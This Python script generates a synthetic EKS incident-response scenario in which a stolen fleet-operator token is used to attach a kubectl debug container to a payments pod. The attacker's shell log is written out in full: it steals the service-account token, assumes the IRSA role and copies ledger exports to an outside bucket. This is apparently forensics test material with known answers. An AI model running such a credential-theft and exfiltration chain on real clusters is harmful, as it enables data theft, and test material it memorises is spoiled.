#!/usr/bin/env python3
"""Writes the kubectl-debug scenario bundle (bundle/ and late/ next to this script); README.md tells the story, the
known answers and each file's provenance. Deterministic: same bytes on every run (gzip members carry mtime 0 and no
name). Run: python3 make_debug_scenario.py"""
import base64, calendar, json, os, shutil, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
LATE = os.path.join(HERE, "late")
DAY = "2026-11-23"

sys.dont_write_bytecode = True  # no __pycache__ among the test resources
sys.path.insert(0, os.path.dirname(HERE))
from bundle_files import AuditLog, BundleFiles, CloudTrailLog, service_account_volumes  # noqa: E402 (beside the scenarios)
_files = BundleFiles(DAY, OUT)
_late = BundleFiles(DAY, LATE)
epoch, ts, tus, tsec, write, jl = _files.epoch, _files.ts, _files.tus, _files.tsec, _files.write, _files.jl

# ------------------------------------------------------------------------------------------------------ entities
ACCT, REGION, CLUSTER, ZONE, AZ_ID = "385726194013", "eu-west-1", "payments-eks", "eu-west-1b", "euw1-az2"
VPC, SUBNET = "vpc-03c5e7a9b1d2f4608", "subnet-0b2d4f6a8c0e1a3b5"
NODE = "ip-10-44-21-130.eu-west-1.compute.internal"
NODE_IP, INSTANCE, ENI = "10.44.21.130", "i-0a1b2c3d4e5f60789", "eni-0c3e5a7b9d1f2a4c6"
NODE_UID = "7e1c9a3b-5d2f-4e8a-b6c4-0a9f8e7d6c5b"
ATTACKER = "203.0.113.77"
NS = "payments"
K8S_UA = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
# the stolen credential: the fleet operator's legacy (Secret-based, never expiring) service account token, which a
# tenant-onboarding repository kept; the operator's ClusterRole may impersonate users, groups and service accounts
OP_NS, OP_SA = "platform", "fleet-operator"
OP_USER = "system:serviceaccount:%s:%s" % (OP_NS, OP_SA)
OP_UID = "4b8d2f6a-1c3e-4a5b-9d7f-0e2c4a6b8d0f"
OP_POD, OP_POD_UID, OP_IP = "fleet-operator-6b7c8d9e0-h5j6k", "a3c5e7f9-1b2d-4f6a-8c0e-2a4c6e8a0b1d", "10.44.21.140"
OP_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:" + OP_NS, "system:authenticated"]
# the exploited workload: the ledger API, with an IRSA role on the ledger's exports
LEDGER, LEDGER_UID, LEDGER_IP = "ledger-api-7c9d8f6b5-q8w2z", "5d7f9b1c-3e5a-4c7e-9a1b-3c5e7a9b1d2f", "10.44.21.57"
LEDGER_CTR = "c41e" + "7a" * 30
LEDGER_REPO = "%s.dkr.ecr.%s.amazonaws.com/payments/ledger-api" % (ACCT, REGION)
LEDGER_DIGEST = "sha256:" + "5e2a" * 16
LEDGER_SA = "ledger-api"
LEDGER_SA_USER = "system:serviceaccount:%s:%s" % (NS, LEDGER_SA)
LEDGER_ROLE_NAME = "ledger-api-irsa"
LEDGER_ROLE = "arn:aws:iam::%s:role/%s" % (ACCT, LEDGER_ROLE_NAME)
OIDC = "arn:aws:iam::%s:oidc-provider/oidc.eks.%s.amazonaws.com/id/8A2C4E6F0B1D3F5A7C9E1B3D5F7A9C0E" % (ACCT, REGION)
POD_SESSION_NAME, POD_KEY = "botocore-session-1795420812", "ASIAVLEDGERPOD000001"
DEBUG_SESSION_NAME, DEBUG_KEY = "debug", "ASIAVLEDGERDEBUG0001"
POD_SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, LEDGER_ROLE_NAME, POD_SESSION_NAME)
DEBUG_SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, LEDGER_ROLE_NAME, DEBUG_SESSION_NAME)
EXPORTS = "acme-ledger-exports"
DROP_ACCT, DROP_BUCKET = "914725836047", "cdn-assets-backup-7731"  # the attacker's bucket (bucket policy: anyone may put)
# the attacker's ephemeral container: kubectl debug --image aws-cli --target ledger
DBG, DBG_CTR = "debugger-x7k2p", "d3b9" + "0c" * 30
DBG_REPO, DBG_TAG = "public.ecr.aws/aws-cli/aws-cli", "2.18.0"
DBG_DIGEST = "sha256:" + "a7c1" * 16
# the ledger's nightly migration Job's pod had the ledger pod's address before it (06:40-06:55, deleted 06:58): the
# address reused on the same node within minutes
MIG, MIG_UID, MIG_CTR = "ledger-migrate-29381730-x7p2k", "6e8a0c2e-4a6c-4e8a-8c0e-6a8c0e2a4c6e", "9f3a" + "d6" * 30
MIG_JOB = "ledger-migrate-29381730"
# bystanders on the node: the checkout service, which the on-call SRE debugged in the morning (busybox), and the
# fleet operator itself, impersonating its tenants' deployer accounts from its pod as it does every hour
CHK, CHK_UID, CHK_IP = "checkout-5f6a7b8c9-m3n4p", "8b0d2f4a-6c8e-4a1b-9d3f-5b7d9f1a3c5e", "10.44.21.88"
CHK_CTR = "e8f2" + "51" * 30
CHK_REPO = "%s.dkr.ecr.%s.amazonaws.com/payments/checkout" % (ACCT, REGION)
CHK_DIGEST = "sha256:" + "3b6d" * 16
SRE_DBG, SRE_DBG_CTR = "debugger-s2r4t", "b7a4" + "e3" * 30
BUSYBOX, BUSYBOX_DIGEST = "docker.io/library/busybox:1.36", "sha256:" + "9ae9" * 16
SRE_ROLE_NAME = "AWSReservedSSO_EKSOnCall_2b8f0d1c3e5a7f90"
SRE_SESSION = "arn:aws:sts::%s:assumed-role/%s/alice@acme-payments.example" % (ACCT, SRE_ROLE_NAME)
SRE_IP = "192.0.2.10"  # the corporate VPN's egress
OP_REPO = "%s.dkr.ecr.%s.amazonaws.com/platform/fleet-operator" % (ACCT, REGION)
OP_DIGEST = "sha256:" + "0f4c" * 16
OP_CTR = "f1d6" + "28" * 30
# the staging account: the same VPC range (10.44.0.0/16), its ledger pod has the production pod's address, its own
# IRSA role, and writes its nightly report to the organization's log-archive bucket (another account) by design
STG_ACCT, STG_CLUSTER, STG_VPC = "604918273645", "payments-eks-stg", "vpc-0e7a9c1b3d5f7a9c1"
STG_ENI, STG_INSTANCE = "eni-0a2c4e6a8c0e2a4c6", "i-0f9e8d7c6b5a40312"
STG_NODE, STG_NODE_IP = "ip-10-44-22-14.eu-west-1.compute.internal", "10.44.22.14"
STG_POD, STG_POD_UID, STG_CTR = "ledger-api-5b6c7d8e9-t7y8u", "2e4a6c8e-0a2c-4e6a-8c0e-4a6c8e0a2c4e", "a0b2" + "c4" * 30
STG_ROLE = "arn:aws:iam::%s:role/ledger-api-irsa" % STG_ACCT
STG_OIDC = "arn:aws:iam::%s:oidc-provider/oidc.eks.%s.amazonaws.com/id/1B3D5F7A9C0E2A4C6E8A0B2D4F6A8C0E" % (STG_ACCT, REGION)
ARCHIVE_ACCT, ARCHIVE_BUCKET = "111122223333", "acme-log-archive-eu-west-1"

# ----------------------------------------------------------------------------------------------- Kubernetes audit
audit = AuditLog(_files, "6f2a9c1e-%04x-4%03x-8000-%012d", 4120, K8S_UA, node_uid=False).event

def kubelet_user(node):
    return ("system:node:" + node, ["system:nodes", "system:authenticated"])
KUBELET_UA = "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"

def pod_ref(name, ns=NS, sub=None):
    r = {"resource": "pods", "namespace": ns, "name": name, "apiVersion": "v1"}
    if sub: r["subresource"] = sub
    return r

def cstatus(name, cid, image, image_id, started, running=True, finished=None, exit_code=0):
    st = {"running": {"startedAt": started}} if running else {
        "terminated": {"containerID": "containerd://" + cid, "exitCode": exit_code, "reason": "Completed",
                       "startedAt": started, "finishedAt": finished}}
    return {"containerID": "containerd://" + cid, "image": image, "imageID": image_id, "lastState": {}, "name": name,
            "ready": running, "restartCount": 0, "started": running, "state": st}

def ecstatus(name, cid, image, image_id, started, running=True, finished=None):
    s = cstatus(name, cid, image, image_id, started, running, finished)
    s["ready"] = False
    s.pop("started")
    return s

def node_create():
    node = NODE
    return audit("06:12:40", 118233, "create", "/api/v1/nodes", *kubelet_user(node), NODE_IP,
                 {"resource": "nodes", "name": node, "apiVersion": "v1"}, code=201, ua=KUBELET_UA,
                 request={"kind": "Node", "apiVersion": "v1", "metadata": {"name": node, "labels": {
                     "kubernetes.io/hostname": node, "topology.kubernetes.io/zone": ZONE,
                     "node.kubernetes.io/instance-type": "m7i.2xlarge", "eks.amazonaws.com/nodegroup": "payments-ng-b"}},
                          "spec": {"providerID": "aws:///%s/%s" % (ZONE, INSTANCE)},
                          "status": {"addresses": [{"type": "InternalIP", "address": NODE_IP}, {"type": "Hostname", "address": node},
                                                   {"type": "InternalDNS", "address": node}]}},
                 response={"kind": "Node", "apiVersion": "v1", "metadata": {"name": node, "uid": NODE_UID,
                           "creationTimestamp": tsec("06:12:40")}, "spec": {"providerID": "aws:///%s/%s" % (ZONE, INSTANCE)}})

def base_pod(name, uid, ns, app, rs, sa, image, created, ip, irsa_role=None, containers_name=None):
    c = {"name": containers_name or app, "image": image, "imagePullPolicy": "IfNotPresent"}
    vols = service_account_volumes(c, uid, REGION, irsa_role)
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "generateName": rs + "-", "namespace": ns, "uid": uid, "creationTimestamp": tsec(created),
                         "labels": {"app": app, "pod-template-hash": rs.rsplit("-", 1)[1]},
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs,
                                              "uid": "0c1d2e3f-" + uid[9:], "controller": True, "blockOwnerDeletion": True}]},
            "spec": {"serviceAccountName": sa, "serviceAccount": sa, "nodeName": NODE, "containers": [c], "volumes": vols,
                     "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"},
            "status": {"phase": "Running", "hostIP": NODE_IP, "hostIPs": [{"ip": NODE_IP}], "podIP": ip, "podIPs": [{"ip": ip}],
                       "startTime": tsec(created), "qosClass": "Burstable"}}

LEDGER_IMAGE = LEDGER_REPO + ":5.2.0"
CHK_IMAGE = CHK_REPO + ":8.4.1"
OP_IMAGE = OP_REPO + ":1.9.3"
PODS = [  # name, uid, ns, app, rs, sa, image, image id, created, ip, irsa, container, container id, started
    (LEDGER, LEDGER_UID, NS, "ledger-api", "ledger-api-7c9d8f6b5", LEDGER_SA, LEDGER_IMAGE, LEDGER_REPO + "@" + LEDGER_DIGEST,
     "07:02:10", LEDGER_IP, LEDGER_ROLE, "ledger", LEDGER_CTR, "07:02:16"),
    (CHK, CHK_UID, NS, "checkout", "checkout-5f6a7b8c9", "checkout", CHK_IMAGE, CHK_REPO + "@" + CHK_DIGEST,
     "07:02:12", CHK_IP, None, "checkout", CHK_CTR, "07:02:19"),
    (OP_POD, OP_POD_UID, OP_NS, "fleet-operator", "fleet-operator-6b7c8d9e0", OP_SA, OP_IMAGE, OP_REPO + "@" + OP_DIGEST,
     "06:20:02", OP_IP, None, "operator", OP_CTR, "06:20:07"),
]

def debug_patch(name, image, target, command):
    """What `kubectl debug -it <pod> --image=<image> --target=<target> -- <command>` sends (kubectl 1.31): a
    strategic-merge patch of the pod's ephemeralcontainers subresource adding one container."""
    return {"spec": {"ephemeralContainers": [{"name": name, "image": image, "command": command, "resources": {},
                                              "terminationMessagePath": "/dev/termination-log",
                                              "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent",
                                              "stdin": True, "tty": True, "targetContainerName": target}]}}

def with_ephemeral(pod, name, image, target, command):
    p = json.loads(json.dumps(pod))
    p["spec"]["ephemeralContainers"] = debug_patch(name, image, target, command)["spec"]["ephemeralContainers"]
    return p

def status_patch(uid, ephemeral=None, containers=None):
    """The kubelet's strategic-merge status patch (EKS logs system:nodes' requests at Request level: the body only)."""
    s = {}
    if containers is not None:
        s["containerStatuses"] = containers
    if ephemeral is not None:
        s["$setElementOrder/ephemeralContainerStatuses"] = [{"name": e["name"]} for e in ephemeral]
        s["ephemeralContainerStatuses"] = ephemeral
    return {"metadata": {"uid": uid}, "status": s}

def prod_audit():
    ev = [node_create()]
    rs_ua = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:replicaset-controller"
    ctl_groups = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]
    for name, uid, ns, app, rs, sa, image, image_id, created, ip, irsa, cname, cid, started in PODS:
        pod = base_pod(name, uid, ns, app, rs, sa, image, created, ip, irsa, cname)
        req = json.loads(json.dumps(pod))
        req["spec"].pop("nodeName")
        req.pop("status")
        resp = json.loads(json.dumps(req))
        resp["status"] = {"phase": "Pending", "qosClass": "Burstable"}
        ev.append(audit(created, 88110, "create", "/api/v1/namespaces/%s/pods" % ns, "system:serviceaccount:kube-system:replicaset-controller",
                        ctl_groups, "10.44.0.23", pod_ref("", ns) | {"name": name}, code=201, ua=rs_ua, request=req, response=resp,
                        uid="0d9e8f7a-6b5c-4d3e-a2f1-0e9d8c7b6a59"))
        ev.append(audit(created, 390441, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (ns, name), "system:kube-scheduler",
                        ["system:authenticated"], "10.44.0.23", pod_ref(name, ns, "binding"), code=201,
                        ua="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/scheduler",
                        request={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns, "uid": uid},
                                 "target": {"kind": "Node", "name": NODE}}))
        st = status_patch(uid, containers=[cstatus(cname, cid, image, image_id, tsec(started))])
        st["status"].update({"phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}], "hostIP": NODE_IP,
                             "hostIPs": [{"ip": NODE_IP}], "startTime": tsec(created)})
        ev.append(audit(started, 501227, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (ns, name), *kubelet_user(NODE), NODE_IP,
                        pod_ref(name, ns, "status"), level="Request", ua=KUBELET_UA, request=st))
    # 06:40 the migration Job's pod (the Job controller's create, the scheduler, the kubelet: Running at
    # 10.44.21.57, Succeeded at 06:55), deleted by the garbage collector at 06:58 once the TTL controller removed the Job
    mig = base_pod(MIG, MIG_UID, NS, "ledger-migrate", "ledger-migrate-x", "ledger-migrate", LEDGER_IMAGE, "06:40:02", LEDGER_IP,
                   None, "migrate")
    mig["metadata"].pop("generateName")
    mig["metadata"]["generateName"] = MIG_JOB + "-"
    mig["metadata"]["labels"] = {"batch.kubernetes.io/job-name": MIG_JOB, "job-name": MIG_JOB}
    mig["metadata"]["ownerReferences"] = [{"apiVersion": "batch/v1", "kind": "Job", "name": MIG_JOB,
                                           "uid": "1d3f5a7c-9e1b-4d3f-8a7c-9e1b3d5f7a9c", "controller": True,
                                           "blockOwnerDeletion": True}]
    mig["spec"]["restartPolicy"] = "Never"
    mig["spec"]["containers"][0]["command"] = ["/app/ledger-api", "migrate", "--to", "latest"]
    req = json.loads(json.dumps(mig))
    req["spec"].pop("nodeName")
    req.pop("status")
    resp = json.loads(json.dumps(req))
    resp["status"] = {"phase": "Pending", "qosClass": "Burstable"}
    job_ua = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:job-controller"
    ev.append(audit("06:40:02", 51220, "create", "/api/v1/namespaces/%s/pods" % NS, "system:serviceaccount:kube-system:job-controller",
                    ctl_groups, "10.44.0.23", pod_ref(MIG), code=201, ua=job_ua, request=req, response=resp,
                    uid="2f4a6c8e-0b1d-4e3f-9a5b-7c9d1e3f5a7b"))
    ev.append(audit("06:40:02", 311870, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (NS, MIG), "system:kube-scheduler",
                    ["system:authenticated"], "10.44.0.23", pod_ref(MIG, NS, "binding"), code=201,
                    ua="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/scheduler",
                    request={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": MIG, "namespace": NS, "uid": MIG_UID},
                             "target": {"kind": "Node", "name": NODE}}))
    st = status_patch(MIG_UID, containers=[cstatus("migrate", MIG_CTR, LEDGER_IMAGE, LEDGER_REPO + "@" + LEDGER_DIGEST, tsec("06:40:07"))])
    st["status"].update({"phase": "Running", "podIP": LEDGER_IP, "podIPs": [{"ip": LEDGER_IP}], "hostIP": NODE_IP,
                         "hostIPs": [{"ip": NODE_IP}], "startTime": tsec("06:40:02")})
    ev.append(audit("06:40:08", 90112, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, MIG), *kubelet_user(NODE), NODE_IP,
                    pod_ref(MIG, NS, "status"), level="Request", ua=KUBELET_UA, request=st))
    st = status_patch(MIG_UID, containers=[cstatus("migrate", MIG_CTR, LEDGER_IMAGE, LEDGER_REPO + "@" + LEDGER_DIGEST, tsec("06:40:07"),
                                                   running=False, finished=tsec("06:55:41"))])
    st["status"].update({"phase": "Succeeded"})
    ev.append(audit("06:55:42", 77031, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, MIG), *kubelet_user(NODE), NODE_IP,
                    pod_ref(MIG, NS, "status"), level="Request", ua=KUBELET_UA, request=st))
    gc_ua = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:generic-garbage-collector"
    ev.append(audit("06:58:11", 402117, "delete", "/api/v1/namespaces/%s/pods/%s" % (NS, MIG),
                    "system:serviceaccount:kube-system:generic-garbage-collector", ctl_groups, "10.44.0.23", pod_ref(MIG),
                    ua=gc_ua, request={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background",
                                       "preconditions": {"uid": MIG_UID}},
                    response={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": MIG, "namespace": NS, "uid": MIG_UID,
                                                                               "deletionTimestamp": tsec("06:58:11"),
                                                                               "deletionGracePeriodSeconds": 0},
                              "status": {"phase": "Succeeded", "podIP": LEDGER_IP}}))
    ledger_pod = base_pod(*[PODS[0][i] for i in range(11)])
    chk_pod = base_pod(*[PODS[1][i] for i in range(11)])
    # 08:00-10:00 the fleet operator's hourly reconcile, from its pod with its bound token, impersonating the tenant's
    # deployer account (what its impersonate rights are for): benign
    op_extra = {"authentication.kubernetes.io/credential-id": ["JTI=2c4e6a8c-0e2a-4c6e-8a0b-2d4f6a8c0e2a"],
                "authentication.kubernetes.io/node-name": [NODE], "authentication.kubernetes.io/node-uid": [NODE_UID],
                "authentication.kubernetes.io/pod-name": [OP_POD], "authentication.kubernetes.io/pod-uid": [OP_POD_UID]}
    deployer = {"username": "system:serviceaccount:%s:deployer" % NS,
                "groups": ["system:serviceaccounts", "system:serviceaccounts:" + NS, "system:authenticated"]}
    for t in ("08:00:04", "09:00:03", "10:00:05"):
        ev.append(audit(t, 220871, "patch", "/apis/apps/v1/namespaces/%s/deployments/ledger-api?fieldManager=fleet-operator&force=true" % NS,
                        OP_USER, OP_GROUPS, OP_IP, {"resource": "deployments", "namespace": NS, "name": "ledger-api",
                                                    "apiGroup": "apps", "apiVersion": "v1"},
                        ua="fleet-operator/1.9.3 (linux/amd64) kubernetes/v0.31.2", uid=OP_UID, extra=op_extra,
                        impersonated=deployer, level="Metadata",
                        annotations={"authorization.k8s.io/decision": "allow",
                                     "authorization.k8s.io/reason": "RBAC: allowed by RoleBinding \"deployer/payments\" of ClusterRole \"edit\" to ServiceAccount \"deployer/payments\""}))
    # 09:24 the on-call SRE debugs the checkout service (EKS access entry of the SSO role; from the corporate VPN)
    sre = {"accessKeyId": ["ASIAVSREONCALL000001"], "arn": [SRE_SESSION],
           "canonicalArn": ["arn:aws:iam::%s:role/%s" % (ACCT, SRE_ROLE_NAME)],
           "principalId": ["AROAVSREONCALL000001"], "sessionName": ["alice@acme-payments.example"],
           "sigs.k8s.io/aws-iam-authenticator/principalId": ["AROAVSREONCALL000001"]}
    sre_user = SRE_SESSION  # an access entry's default user name: the session's ARN ({{SessionName}} filled in)
    sre_groups = ["eks:payments-oncall", "system:authenticated"]
    sre_uid = "aws-iam-authenticator:%s:AROAVSREONCALL000001" % ACCT
    chk_patch = debug_patch(SRE_DBG, BUSYBOX, "checkout", ["sh"])
    ev.append(audit("09:24:31", 602114, "patch", "/api/v1/namespaces/%s/pods/%s/ephemeralcontainers" % (NS, CHK), sre_user,
                    sre_groups, SRE_IP, pod_ref(CHK, NS, "ephemeralcontainers"), uid=sre_uid, extra=sre,
                    request=chk_patch, response=with_ephemeral(chk_pod, SRE_DBG, BUSYBOX, "checkout", ["sh"]),
                    annotations={"authorization.k8s.io/decision": "allow",
                                 "authorization.k8s.io/reason": "EKS Access Policy: allowed by ClusterRoleBinding \"arn:aws:sts::%s:assumed-role/%s/{{SessionName}}+arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy\" of ClusterRole \"arn:aws:eks::aws:cluster-access-policy/AmazonEKSEditPolicy\" to User \"alice@acme-payments.example\"" % (ACCT, SRE_ROLE_NAME)}))
    ev.append(audit("09:24:34", 711902, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, CHK), *kubelet_user(NODE), NODE_IP,
                    pod_ref(CHK, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(CHK_UID, [ecstatus(SRE_DBG, SRE_DBG_CTR, BUSYBOX, "docker.io/library/busybox@" + BUSYBOX_DIGEST,
                                                            tsec("09:24:33"))])))
    ev.append(audit("09:24:35", 30117, "get", "/api/v1/namespaces/%s/pods/%s/attach?container=%s&stdin=true&stdout=true&tty=true" % (NS, CHK, SRE_DBG),
                    sre_user, sre_groups, SRE_IP, pod_ref(CHK, NS, "attach"), uid=sre_uid, extra=sre, level="Metadata", code=101))
    ev.append(audit("09:31:02", 402200, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, CHK), *kubelet_user(NODE), NODE_IP,
                    pod_ref(CHK, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(CHK_UID, [ecstatus(SRE_DBG, SRE_DBG_CTR, BUSYBOX, "docker.io/library/busybox@" + BUSYBOX_DIGEST,
                                                            tsec("09:24:33"), running=False, finished=tsec("09:31:01"))])))
    # 10:41 on: the fleet operator's legacy token from the attacker's address; the operator may impersonate: the
    # attacker acts as system:admin in system:masters
    admin = {"username": "system:admin", "groups": ["system:masters", "system:authenticated"]}
    legacy = {"authentication.k8s.io/legacy-token": OP_USER, "authorization.k8s.io/decision": "allow",
              "authorization.k8s.io/reason": ""}
    att = lambda t, us, verb, uri, ref, code=200, level="Metadata", imp=admin, **kw: audit(
        t, us, verb, uri, OP_USER, OP_GROUPS, ATTACKER, ref, code=code, level=level, uid=OP_UID, impersonated=imp,
        annotations=dict(legacy), **kw)
    ev.append(att("10:41:12", 18802, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                  {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, code=201,
                  imp=None))
    ev.append(att("10:41:40", 550917, "list", "/api/v1/secrets?limit=500", {"resource": "secrets", "apiVersion": "v1"}))
    ev.append(att("10:42:05", 91220, "get", "/api/v1/namespaces/%s/secrets/ledger-db-credentials" % NS,
                  {"resource": "secrets", "namespace": NS, "name": "ledger-db-credentials", "apiVersion": "v1"}))
    ev.append(att("10:42:31", 230114, "get", "/api/v1/namespaces/%s/pods/%s" % (NS, LEDGER), pod_ref(LEDGER), level="RequestResponse",
                  response=ledger_pod))
    dbg_cmd = ["sh"]
    ev.append(att("10:43:02", 410336, "patch", "/api/v1/namespaces/%s/pods/%s/ephemeralcontainers" % (NS, LEDGER),
                  pod_ref(LEDGER, NS, "ephemeralcontainers"), level="RequestResponse",
                  request=debug_patch(DBG, DBG_REPO + ":" + DBG_TAG, "ledger", dbg_cmd),
                  response=with_ephemeral(ledger_pod, DBG, DBG_REPO + ":" + DBG_TAG, "ledger", dbg_cmd)))
    ev.append(audit("10:43:09", 120554, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, LEDGER), *kubelet_user(NODE), NODE_IP,
                    pod_ref(LEDGER, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(LEDGER_UID, [ecstatus(DBG, DBG_CTR, DBG_REPO + ":" + DBG_TAG, DBG_REPO + "@" + DBG_DIGEST,
                                                                tsec("10:43:08"))])))
    ev.append(att("10:43:10", 5521, "get", "/api/v1/namespaces/%s/pods/%s/attach?container=%s&stdin=true&stdout=true&tty=true" % (NS, LEDGER, DBG),
                  pod_ref(LEDGER, NS, "attach"), code=101))
    ev.append(audit("10:52:40", 88127, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, LEDGER), *kubelet_user(NODE), NODE_IP,
                    pod_ref(LEDGER, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(LEDGER_UID, [ecstatus(DBG, DBG_CTR, DBG_REPO + ":" + DBG_TAG, DBG_REPO + "@" + DBG_DIGEST,
                                                                tsec("10:43:08"), running=False, finished=tsec("10:52:39"))])))
    ev.sort(key=lambda e: e["requestReceivedTimestamp"])
    return ev

def cwl_export(events):
    """A CloudWatch Logs export to S3 (`aws logs create-export-task`): each line the event's ingestion timestamp
    (RFC 3339, milliseconds) and its message, gzip."""
    out = []
    for e in events:
        t = e["stageTimestamp"]
        out.append("%s.%sZ %s\n" % (t[:19], t[20:23], json.dumps(e, separators=(",", ":"))))
    return "".join(out)

# ----------------------------------------------------------------------------------------- kubectl get pods -o json
def pods_snapshot():
    """`kubectl get pods -A -o json` at 11:05, by the responder: the ledger pod still lists the attacker's ephemeral
    container (an ephemeral container cannot be removed), terminated, and the checkout pod the SRE's."""
    items = []
    for p in PODS:
        name, uid, ns, app, rs, sa, image, image_id, created, ip, irsa, cname, cid, started = p
        pod = base_pod(name, uid, ns, app, rs, sa, image, created, ip, irsa, cname)
        pod["status"]["containerStatuses"] = [cstatus(cname, cid, image, image_id, tsec(started))]
        if name == LEDGER:
            pod = with_ephemeral(pod, DBG, DBG_REPO + ":" + DBG_TAG, "ledger", ["sh"])
            pod["status"]["ephemeralContainerStatuses"] = [ecstatus(DBG, DBG_CTR, DBG_REPO + ":" + DBG_TAG, DBG_REPO + "@" + DBG_DIGEST,
                                                                    tsec("10:43:08"), running=False, finished=tsec("10:52:39"))]
        if name == CHK:
            pod = with_ephemeral(pod, SRE_DBG, BUSYBOX, "checkout", ["sh"])
            pod["status"]["ephemeralContainerStatuses"] = [ecstatus(SRE_DBG, SRE_DBG_CTR, BUSYBOX, "docker.io/library/busybox@" + BUSYBOX_DIGEST,
                                                                    tsec("09:24:33"), running=False, finished=tsec("09:31:01"))]
        pod["metadata"]["resourceVersion"] = str(77120000 + len(items))
        items.append(pod)
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}

# ----------------------------------------------------------------------------------------------- CRI container logs
def cri(lines):
    return "".join("%s %s %s %s\n" % l for l in lines)

def cri_ledger():
    out = [(ts("07:02:16", 402000000), "stdout", "F", '{"level":"info","ts":"2026-11-23T07:02:16.401Z","msg":"ledger-api 5.2.0 listening","addr":":8443"}')]
    for i in range(12):
        s = epoch("10:30:00") + i * 150
        hms = time.strftime("%H:%M:%S", time.gmtime(s))
        out.append((ts(hms, 3000000 + i * 1000), "stdout", "F",
                    '{"level":"info","ts":"%sZ","msg":"export written","bucket":"%s","key":"2026-11/batch-%04d.parquet","bytes":%d}'
                    % (ts(hms, 3000000)[:-7], EXPORTS, 410 + i, 1800000 + 7919 * i)))
    return cri(out)

def cri_debugger():
    """The attacker's shell in the ephemeral container (stdin + tty: the kubelet writes the terminal's output as
    stdout; the typed commands come back as the terminal's echo)."""
    lines = [
        ("10:43:10", "sh-4.2# cat /proc/1/root/var/run/secrets/eks.amazonaws.com/serviceaccount/token > /tmp/t"),
        ("10:44:02", "sh-4.2# aws sts assume-role-with-web-identity --role-arn %s --role-session-name debug --web-identity-token file:///tmp/t > /tmp/c" % LEDGER_ROLE),
        ("10:45:20", "sh-4.2# aws s3 sync s3://%s/2026-11/ /tmp/l --quiet" % EXPORTS),
        ("10:49:41", "sh-4.2# aws s3 cp --recursive /tmp/l s3://%s/l/ --quiet" % DROP_BUCKET),
        ("10:52:38", "sh-4.2# exit"),
    ]
    return cri([(ts(t, 551000000 + i), "stdout", "F", m) for i, (t, m) in enumerate(lines)])

def cri_checkout():
    out = []
    for i in range(8):
        s = epoch("09:20:00") + i * 300
        hms = time.strftime("%H:%M:%S", time.gmtime(s))
        out.append((ts(hms, 7000000 * i), "stdout", "F", '10.44.3.%d - - [23/Nov/2026:%s +0000] "POST /api/cart/checkout HTTP/1.1" 200 512 "-" "okhttp/4.12.0"' % (11 + i % 3, hms)))
    return cri(out)

def cri_sre():
    return cri([(ts("09:24:35", 210000000), "stdout", "F", "/ # nslookup payments-db.payments.svc.cluster.local"),
                (ts("09:24:35", 310000000), "stdout", "F", "Server:\t\t172.20.0.10"),
                (ts("09:25:02", 1000000), "stdout", "F", "/ # wget -qO- http://localhost:8080/healthz"),
                (ts("09:25:02", 51000000), "stdout", "F", "ok"),
                (ts("09:31:00", 900000000), "stdout", "F", "/ # exit")])

# ------------------------------------------------------------------------------------------------------- Tetragon
def tproc(exec_id, pid, binary, args, start, pod=None, parent=None, uid=0, cwd="/"):
    p = {"exec_id": exec_id, "pid": pid, "uid": uid, "cwd": cwd, "binary": binary, "arguments": args,
         "flags": "execve clone", "start_time": start, "auid": 4294967295}
    if pod:
        name, ns, ctr, cname, image, image_id, workload, cstart, labels = pod
        p["pod"] = {"namespace": ns, "name": name,
                    "container": {"id": "containerd://" + ctr, "name": cname,
                                  "image": {"id": image_id, "name": image},
                                  "start_time": cstart, "pid": 1, "maybe_exec_probe": False},
                    "pod_labels": labels, "workload": workload, "workload_kind": "Deployment"}
        p["docker"] = ctr[:31]
    if parent is not None:
        p["parent_exec_id"] = parent
    p["tid"] = pid
    p["in_init_tree"] = False
    return p

LEDGER_POD = (LEDGER, NS, LEDGER_CTR, "ledger", LEDGER_IMAGE, LEDGER_REPO + "@" + LEDGER_DIGEST, "ledger-api", tsec("07:02:16"),
              {"app": "ledger-api", "pod-template-hash": "7c9d8f6b5"})
